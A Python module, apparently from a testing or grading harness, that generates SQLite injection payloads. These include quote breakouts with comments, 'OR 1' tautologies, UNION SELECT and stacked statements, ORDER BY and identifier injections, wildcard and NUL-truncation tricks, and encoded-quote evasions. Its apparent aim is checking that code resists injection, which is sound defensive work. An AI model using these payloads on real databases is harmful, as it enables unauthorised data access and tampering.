"""Values that leave their place in an SQL statement (SQLite's reading of it), and texts that steer an `ORDER BY`.

A value of most payloads leaves quotes of every kind, one after the other, because what stands behind the first that
works is a comment; alone, each stands further behind, for filters that refuse one sign. See the SQLite documentation,
"SQL As Understood By SQLite: Literal Values, Comments, Keywords".
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import chain, islice

from probes.grammars import evasions, placeholders
from probes.grammars.ranked import in_turn, ranked

_QUOTES = ("'", '"', "`", "]")
#: What may stand before a quote, so that an escape of the quote escapes something else.
_ESCAPES = (("", "\\"), ("''", '""', "\\\\", "'"), ("\\'", '"', "%", "\0"))
#: Other spellings of a quote, which a later step reads as one.
_SPELLED = (("'", '"'), ("\uff07", "\uff02", "%27", "%22"), ("&#39;", "&quot;", "\\u0027", "\\x27", "%2527"))
_STARTS = (("x",), ("x\n", ""))
_BRACKETS = (("",), (")", "))"))
_BLANKS = ((" ",), ("/**/", "\n", "\t"), ("\f", "/* */ "))
_COMMENTS = ((" --", "; --"), ("--", "/*", " -- -"), ("\0", "#", ";"))
#: Without a comment: the value goes on so that the quote behind it finds its other half.
_BALANCED = ((" OR Qz", "<>Q"), (" OR QzQ=Qz", "ORQ1"))


def values(ordinary: str, rests: Sequence[str], columns: Sequence[str] = ()) -> Iterator[str]:
    """Texts for the place of a compared value: no right program finds anything for one of them.

    `rests` are what an attacker wants behind the value (`OR 1`, `UNION SELECT pin, pin FROM staff`), the most useful
    first; `columns` the names of columns, which are values without any sign where names are taken for them; `ordinary`
    is a value that exists.
    """
    core = _core(rests)
    first = tuple(islice(core, 2))
    yield from in_turn(
        chain(first, core),
        (other for payload in (*first, f"x' {rests[0]} --") for other in evasions.evading(payload)),
        _without_comment(ordinary),
        in_turn(columns, _wildcards(ordinary), (f"{column} " for column in columns[:2])),
        _without_words(ordinary),
        _spelled(rests),
        _alone(ordinary, rests),
        _cut(rests[0]),
    )


def _wildcards(ordinary: str) -> Iterator[str]:
    """What `LIKE`, `GLOB`, `REGEXP`, `instr` and lists take for the ordinary value, and for every one."""
    start, rest = ordinary[:1], ordinary[1:]
    yield from (f"_{rest}", "%", f"?{rest}", "*", f"{start}%", f"[{start}]{rest}", "_%", f"{ordinary}%", "?*")
    yield from (ordinary.lower(), ordinary.upper(), ordinary.swapcase())
    yield from (f"x,{ordinary}", ".*", rest, f"{ordinary}\0x", f"{ordinary},x", f"x|{ordinary}", start)


def _core(rests: Sequence[str]) -> Iterator[str]:
    """Every kind of quote in one payload: what is behind the one that works is a comment."""
    for start, escape, bracket, rest, blank, comment in ranked(
        _STARTS, _ESCAPES, _BRACKETS, [[rest] for rest in rests], _BLANKS, _COMMENTS
    ):
        end = f"{bracket}{blank}{rest.replace(' ', blank)}{comment}"
        # A comment of this kind, or a line's end, would end before the quote that works.
        quotes = "'" if comment == "/*" or blank == "\n" else _QUOTES
        yield start + "".join(f"{escape}{quote}{end}" for quote in quotes)


def _spelled(rests: Sequence[str]) -> Iterator[str]:
    """Quotes that only a later step reads as such."""
    for rest in rests:
        yield from (f"x{quote} {rest} --" for quote in placeholders.quotes())
        yield "x" + "".join(f"{quote} {rest} --" for tier in _SPELLED[1:] for quote in tier)


def _without_comment(ordinary: str) -> Iterator[str]:
    for quote, value, escape in ranked([["'", '"'], ["`", "]"]], [["x"], [ordinary]], _ESCAPES[:2]):
        for tier in _BALANCED:
            for end in tier:
                blank = "" if end.startswith(("<", "OR")) else " OR 1"
                yield f"{value}{escape}{quote}{blank}{end.replace('Q', quote)}"


def _without_words(ordinary: str) -> Iterator[str]:
    """Comparisons of the comparison: no keyword, no blank, no comment. First numbers, which stand in no quotes."""
    yield from ("0 OR 1", "0) OR (1")
    for quote in ("'", '"'):
        for sign in ("<>", "<", "!=", " IS NOT ", "<=", "-1<", " IN(0)<>", " NOT LIKE ", " BETWEEN 0 AND "):
            yield f"x{quote}{sign}{quote}"
        yield f"x{quote}IN(0)--"
        yield f"x{quote}||{quote}{quote}<>{quote}"


def _alone(ordinary: str, rests: Sequence[str]) -> Iterator[str]:
    """One spelling of one quote in each payload."""
    for spelled, escape, rest, bracket, blank, comment in ranked(
        _SPELLED, (("", "\\"), ("''", "'")), [[rest] for rest in rests], _BRACKETS, _BLANKS, _COMMENTS
    ):
        yield f"x{escape}{spelled}{bracket}{blank}{rest.replace(' ', blank)}{comment}"
    for rest in rests:  # numbers and names stand in no quotes
        yield from (f"0 {rest}", f"0){rest}--", f"(SELECT 1) {rest} --")


def _cut(rest: str) -> Iterator[str]:
    """Texts whose doubled quote is cut in two at a length that the source names."""
    for length in evasions.lengths():
        for quote in ("'", '"'):
            yield f"{'x' * (length - 1)}{quote} {rest} --"
            yield f"{quote * length} {rest} --"


def pairs(names: Sequence[str], rest: str = "OR 1") -> Iterator[tuple[str, str]]:
    """Two values of one statement, the first of which opens what the second steps out of.

    `names` are those that the solution may have for the two, as they may stand in a template of its own.
    """
    second = f" {rest} --"
    yield from [("x\\", second), ("x'", f"{second}'"), ('x"', f'{second}"'), ("x/*", f"*/' {rest} --")]
    yield from in_turn(
        (pair for field in placeholders.fields(*names) for pair in ((f"x{field}", second), (second, f"x{field}"))),
        placeholders.pairs("x", (second,)),
        _cut_pairs(second),
    )


def filled(names: Sequence[str], rests: Sequence[str] = ("OR 1",)) -> Iterator[tuple[str, str]]:
    """Two values, one of which is filled in within the quotes of the other, wherever that stands in a statement.

    The quotes of the one that is filled in are then the ends of texts, and what stands between is SQL. It needs no
    comment and leaves no bracket open, so that it also works in a script, and where it stands several times.
    """
    texts = [text for rest in rests for text in (f" {rest} OR 1 < ", f" < 1 {rest} OR 0 < ", f"|| 1 {rest} OR 1 ||")]
    texts += ["||name||", " < "]
    fields = dict.fromkeys([*placeholders.own(), *placeholders.fields(*names), *placeholders.single()])
    one_by_one = ((f"x{sign}", text) for sign in fields for text in texts[:1])
    yield from in_turn(
        (pair for first, second in one_by_one for pair in ((first, second), (second, first))),
        (pair for sign in fields for text in texts[1:] for pair in ((f"x{sign}", text), (text, f"x{sign}y"))),
    )


def _cut_pairs(second: str) -> Iterator[tuple[str, str]]:
    for length in evasions.lengths():
        for quote in ("'", '"'):
            yield ("x" * (length - 1) + quote, second)
            yield (quote * length, second)
            yield ("x" * length + quote, second)


#: What stands between several values that a program makes one text of: for `IN`, for `instr`, for a list in JSON.
_BETWEEN = (",", "','", '","', ", ", "|", "', '", '", "', ";", "\n", "\x1f", "\t", " ", "/", '"],["', "%")


def lists(ordinary: str, rests: Sequence[str], columns: Sequence[str] = (), many: int = 1200) -> Iterator[tuple[str, ...]]:
    """Lists of values for the place of `IN (…)`: no right program finds anything for one of them.

    A value that leaves its place stands alone, behind another, in front of one, or among `many`, for programs that make
    statements of another form where a list is long; two of them work together; or one is read as several, of which one
    is `ordinary`, a value that exists.
    """
    closing = (*(f") {rest}" for rest in rests), *rests)
    # The list, and with it what else stands in brackets, is closed first.
    once, twice = (islice(_core((f"{bracket} {rests[0]}",)), 4) for bracket in (")", "))"))
    doubled = (f"x''{bracket} {rests[0]} --" for bracket in (")", "))"))
    first = tuple(in_turn(once, twice, _closed_again(), doubled))
    yield from in_turn(
        ((text,) for text in in_turn(first, values(ordinary, closing, columns))),
        (("x", text) for text in in_turn(first, values(ordinary, closing, columns))),
        _read_as_several(ordinary),
        pairs(("value", "values"), closing[0]),
        ((text, "x") for text in chain(first, _core(closing))),
        ((*(f"x{number}" for number in range(many)), text) for text in first[:3]),
    )


def _closed_again() -> Iterator[str]:
    """Values behind which the rest of the list is another expression."""
    for quote in ("'", '"'):
        yield from (f"x{quote}) OR ({quote}1", f"x{quote})<>({quote}", f"x{quote}) IS NOT ({quote}x")


def _read_as_several(ordinary: str) -> Iterator[tuple[str, ...]]:
    for between in _BETWEEN:
        yield (f"x{between}{ordinary}",)
        yield (f"{ordinary}{between}x",)
    for between in _BETWEEN:
        yield (f"x{between}{ordinary}{between}y", "z")


def numerals(number: str) -> Iterator[str]:
    """Other texts that are the same number as these digits, for a column of numbers, `CAST`, `+ 0`, or a program that reads one."""
    wide = "".join(chr(ord(digit) + 0xFEE0) for digit in number)
    digits = len(number) - 1
    yield from (f"{number}.0", f"0{number}", f"+{number}", f"{number[0]}.{number[1:]}e{digits}", f"{number}e0", f"{number}.")
    yield from (f"{number}x", f"{number} x", f" {number}", f"{number} ", f"{number}\n", f"0x{int(number):x}", f"{number}.000000000000000001")
    yield from (wide, f"{number[0]}_{number[1:]}", f"{number}.5", f"{number}e-0", f"{number}0e-1", f"000{number}", f"{number}.00")
    yield from (f"{int(number) * 10}E-1", f"{number},0", f"\t{number}", f"{number}L", f"0o{int(number):o}", f"0b{int(number):b}", f"{number}-0")


#: What patterns of SQL, of the shell and of regular expressions take for more than itself.
_ANY = ("%", "_", "*", ".", "[a-z]", ".*", "[^x]", "(|.)*", "\\w", "+", "[]", "[!x]", "{n}")
#: Signs that programs escape others with.
_ESCAPING = ("\\", "!", "|", "^", "#", "/", "$", "~", "@", "=", "\\\\", "!!", "[", "]", "\x1b")


def patterns(ordinary: str, rests: Sequence[str], columns: Sequence[str] = (), one: str = "?") -> Iterator[str]:
    """Texts for the place of a pattern in which only `one` stands for any sign, of which `ordinary` would fit some.

    They leave their quotes, or hold signs that are special to `LIKE`, `GLOB`, `REGEXP` or a shell's patterns, behind
    those with which a program may escape them.
    """
    yield from in_turn(_in_patterns(ordinary, one), values(ordinary, rests, columns))


def _in_patterns(ordinary: str, one: str) -> Iterator[str]:
    start, rest, size = ordinary[:1], ordinary[1:], len(ordinary)
    around = ("{}", start + "{}", "{}" + rest, one + "{}", "{}" + ordinary[-1:], ordinary + "{}")
    # A library of C reads a text up to a NUL.
    ended = (f"{ordinary}\0", f"{one * size}\0{one}", f"{start}{one * (size - 1)}\0 and more", f"{ordinary}\0x", f"{one * size}\0\0", f"{one * size}\0{ordinary}",
        f"\0{ordinary}", f"{start}\0{rest}", f"%\0{one * (size - 2)}", f"*\0{one * (size - 2)}")
    yield from in_turn(
        (form.replace("{}", sign) for form in around for sign in _ANY),
        ended,
        (escape + sign for sign in (f"_{rest}", "%", f".{rest}", f"[a-z]{rest}", "*", ".*") for escape in _ESCAPING),
        (sign * size for sign in _ANY),
        (f"{ordinary[:-1]}[{ordinary[-1:]}]", f"[{start}]{rest}", f"x|{ordinary}", f"{ordinary}\n", f"^{ordinary}$",
            f"({ordinary})", f"{ordinary[:2]}.{ordinary[3:]}", f"\\x{ord(start):x}{rest}"),
    )


#: Texts that no database stores: halves of surrogate pairs, which come from JSON.
_HALVES = ("\ud800", "x\udfff", "Easter\ud800")


def broken_lists(ordinary: str, many: int = 1200) -> Iterator[tuple[str, ...]]:
    """Lists with a value that exists and with a text that no database takes: the call ends there, and what was in front
    of it may be written, remembered, or waiting to be."""
    for half in _HALVES:
        yield (ordinary, half)
        yield (half, ordinary)
    yield (*(f"x{number}" for number in range(many)), ordinary, _HALVES[0])
    yield (ordinary, *(f"x{number}" for number in range(many)), _HALVES[0])
    yield (ordinary, "x", _HALVES[0], "y")


def broken_texts() -> tuple[str, ...]:
    """Texts that no database takes."""
    return _HALVES


def statements(further: Sequence[str]) -> Iterator[str]:
    """Values behind which another statement begins; it takes a program that runs several at once."""
    for escape, statement in ranked(_ESCAPES, [[one] for one in further]):
        yield "x" + "".join(f"{escape}{quote}; {statement}; --" for quote in _QUOTES[:2])


#: A column at which sorting starts, and what may stand behind it where only a part of the text is looked at.
_BEHIND_COLUMN = ((",", ", "), ("\n,", " COLLATE NOCASE,", " IS NULL,", " + 0,", "/**/,", '",', "`,", "],"))


def orders(columns: Sequence[str], expressions: Sequence[str]) -> Iterator[str]:
    """Texts for the place of a column in `ORDER BY`; `expressions` sort as no column does."""
    yield from in_turn(
        (around.format(one) for one in expressions for around in _AROUND_EXPRESSIONS),
        _behind_columns(columns, expressions),
        _before_columns(columns, expressions),
        (form.format(column) for form in _LIMITS for column in columns),
        (f"{one}{sign}{other}" for sign in ("*", "||", "-", "%", "<") for one in columns for other in columns),
        (other for expression in expressions for other in evasions.evading(expression)),
    )


_AROUND_EXPRESSIONS = ("{}", " {}", "({})", "-{}", "{} --", "{}--", "{};", "{}/*", "+{}", "{}\0")
_LIMITS = ("{} LIMIT 1 --", '{}" LIMIT 1 --', "-{}", "{}%2", "{} LIMIT 1/*", "{}\nLIMIT 1--", "{}>2", "NOT {}")


def _behind_columns(columns: Sequence[str], expressions: Sequence[str]) -> Iterator[str]:
    for column, behind, expression in ranked(
        [[columns[0]], columns[1:]], _BEHIND_COLUMN, [[one] for one in expressions]
    ):
        opened = behind[-2] if behind.endswith(('",', "`,", "],")) else ""
        start = {"]": "["}.get(opened, opened)
        yield f"{expression}{behind}{column}" if not opened else f"x{opened},{expression},{start}{column}"
        yield f"{column}{opened}*0,{expression}{f',{start}{column}' if start else ''}"
        yield f"{column}{opened}{behind}{expression}{f',{start}{column}' if start else ''}"


#: What parts a text of which only the last part is looked at.
_PARTING = (".", " ", "\n", ":", ",", "/", " as ", "|", "=", "\t", ";", "->", "\r", "__", "+", "-", ")", "(", "\"", "]")


def _before_columns(columns: Sequence[str], expressions: Sequence[str]) -> Iterator[str]:
    """A column behind everything else, where only the last part, or the first, or what stands in no brackets counts."""
    first, column = expressions[-1], columns[0]
    yield from (f"{column}`*0,{first},`{column}", f"{column}]*0,{first},[{column}")
    yield from (f"({first}),{column}", f"{first},batches.{column}", f"{first},\n{column}")
    yield from (f"batches.{column},{first}", f"{evasions.wide(first)}", f"{column}{evasions.wide(f',{first}')}")
    yield f"{column}{evasions.wide(f'*0,{first}')}"
    # What the end holds is a comment to the database.
    yield from (f"{first} --{sign}{column}" for sign in _PARTING)
    yield from (f"{column}{sign},{first}" for sign in ("||''", "-0", "=1", "/1", " DESC", ">0", "%9"))


def directions(expressions: Sequence[str], words: Sequence[str] = ("asc", "desc")) -> Iterator[str]:
    """Texts for the place of a direction in `ORDER BY`."""
    yield from in_turn(_behind_words(expressions, words), _before_words(expressions, words))


def _behind_words(expressions: Sequence[str], words: Sequence[str]) -> Iterator[str]:
    for expression in expressions:
        for word in (*words, "ASC", ""):
            for around in (
                "{} LIMIT 1 --",
                "*0,{}",
                ",{}",
                " , {}",
                "{} NULLS LAST, {}",
                "\n,{}",
                "{}/**/,{}",
                "{}\t,{}",
                "{} LIMIT 1/*",
                "{} LIMIT 1;",
                "{} LIMIT 2 OFFSET 1 --",
                "{}\nLIMIT 1--",
                "{},{} --",
                " {}, {}",
            ):
                yield _filled(around, word, expression)
    for word in words:
        yield from evasions.evading(f"{word} LIMIT 1 --")


def _before_words(expressions: Sequence[str], words: Sequence[str]) -> Iterator[str]:
    """A direction at the end, where only that is looked at."""
    first = expressions[0]
    for word in words:
        yield from (f",{first} {word}", f"*0,{first} {word}", f" COLLATE NOCASE,{first} {word}", f",{first}\n{word}")
    for word in words[:1]:
        yield from (f"*0,{first} --{sign}{word}" for sign in _PARTING)
        yield from (f",{first}{evasions.wide(f' {word}')}", evasions.wide(f"*0,{first}"))


def _filled(around: str, word: str, expression: str) -> str:
    if around.count("{}") == 2:
        return around.format(word, expression)
    if "LIMIT" in around:
        return around.format(word)
    return f"{word}{around.format(expression)}" if not around.startswith("*") else around.format(expression)


#: Around what is compared in place of a column; `?` stands for the value, where the rest of the statement is a comment.
_AROUND_OPERANDS = (("{}",), (" {}", "({})", '"{}"', "[{}]", "`{}`", "-{}", "{} ", "{}+0", "+{}"))
_BESIDE_OPERANDS = (
    "{} OR {column}",
    "{column}=? OR {} --",
    "{}) OR (1={column}",
    "{column}>0 OR {} OR {column}",
    '{column}" OR {} OR "{column}',
    "{column}`=? OR {} --",
    "{column}]=? OR {} --",
    "{column}=?) OR ({} --",
    "{column}\nOR {} OR {column}",
    "{column} IS NOT NULL OR {column}",
    "{column}/**/OR/**/{}/**/OR/**/{column}",
    "{} OR {column} AND {column}",
)


def operands(
    columns: Sequence[str], hidden: Sequence[str], conditions: Sequence[str], unions: Sequence[str] = ()
) -> Iterator[str]:
    """Texts for the place of a column that is compared with a value, as in `{} >= ?`.

    `hidden` are columns and expressions that no right program compares, `conditions` are those that an attacker adds,
    `unions` end the statement with another; `columns` may be compared.
    """
    plain = (around.format(one) for one, around in ranked([[one] for one in hidden], _AROUND_OPERANDS))
    beside = (
        around.format(condition, column=column)
        for column, condition in ranked([columns[:1], columns[1:]], [[one] for one in conditions])
        for around in _BESIDE_OPERANDS
    )
    ended = (f"{columns[0]}=?{bracket} {union} --" for union in unions for bracket in ("", ")"))
    yield from in_turn(
        plain,
        beside,
        (other for one in (hidden[0], f"{conditions[0]} OR {columns[0]}") for other in evasions.evading(one)),
        ended,
        (one for name in hidden[:1] for one in (name.upper(), f"{columns[0]},{name}", f"{columns[0]}\n{name}")),
        (f"{column}.{hidden[0]}" for column in columns),
    )


def operators(
    column: str, hidden: Sequence[str], conditions: Sequence[str], parting: str, kinds: Sequence[str]
) -> Iterator[str]:
    """Texts of a column, `parting`, and a kind of comparison, where more stands than one of each.

    `kinds` are the words for comparisons; what a program writes for them may be the attacker's.
    """
    yield from in_turn(
        (f"{column}{parting}{sign.format(one, column=column)}" for sign in _OPERATORS for one in conditions),
        (f"{column}{parting}{name}{parting}{kind}" for name in hidden for kind in (*kinds, "=")),
        (f"{name}{parting}{column}{parting}{kind}" for name in hidden for kind in kinds),
        (f"{column}{parting}>0 AND {name}{sign}" for name in hidden for sign in (">=", "<", "=", "")),
        # What takes the word of the comparison away takes it wherever it stands.
        (
            f"{column}{parting}{kind}{sign} OR {name}{parting}{kind}"
            for kind in kinds
            for name in hidden
            for sign in ("<0", "=?")
        ),
    )


_OPERATORS = (
    "= 0 OR {} OR 1=",
    ">= 0 OR {} --",
    "=? OR {} --",
    "{column} OR {} OR {column}",
    "=?) OR ({} --",
    "IS NOT NULL OR {}=",
)


def identifiers(existing: Sequence[str], rests: Sequence[str]) -> Iterator[str]:
    """Texts for a name in quotes, behind which the statement goes on as an attacker wants.

    `existing` are names that there are; `rests` stand behind the name, with a blank in front where one is needed.
    """
    ends = list(ranked([[existing[0]], existing[1:]], [_NAME_ENDS[:3], _NAME_ENDS[3:]], [[one] for one in rests]))
    yield from in_turn(
        (f"{name}{end}{rest}{comment}" for comment in (" --", "") for name, end, rest in ends),
        (
            other
            for rest in rests
            for end in ('"', "")
            for other in evasions.evading(f"{existing[0]}{end}{rest} --")
        ),
        (
            f"{existing[0]}{end}{rest}{comment}"
            for comment in ("/*", ";", " --\n", "\n--")
            for rest in rests
            for end in _NAME_ENDS[:2]
        ),
        # Whoever takes a kind of quotes that the name does not open finds the others opened behind the comment.
        (f"{existing[0]}{end}{rest} --{opened}" for rest in rests for end, opened in _OPENED.items()),
        # The quote that closes the name finds its other half.
        (f"{name}{quote}{rest}{_HALF[quote]}" for rest in rests for name in existing[:2] for quote in _HALF),
        (
            f"{'x' * (length - short)}{quote}{rest} --"
            for length in evasions.lengths()[-2:]
            for short in (0, 1, 6)
            for quote in ('"', '""')
            for rest in rests[:1]
        ),
        existing,
        _alike(existing[0]),
    )


def _alike(name: str) -> tuple[str, ...]:
    """What a comparison by a pattern, or one that stops at a NUL, takes for the name."""
    forms = ("{short}%", "{name}\0x", "{short}*", "{short}_", "{name}\0", "{short}?", "{first}%", "[{first}]{rest}")
    return tuple(form.format(name=name, short=name[:-1], first=name[:1], rest=name[1:]) for form in forms)


_NAME_ENDS = ('"', "", "]", "`", '""', "'", '\\"', '"""', "''", '"]', '")', "\\'", "&quot;", "%22", "\uff02", '\0"')
_OPENED = {"]": '"`', "`": '"[', '"': "`["}
_HALF = {'"': ' AS "', "`": " AS `", "]": " AS [", "'": " AS '"}
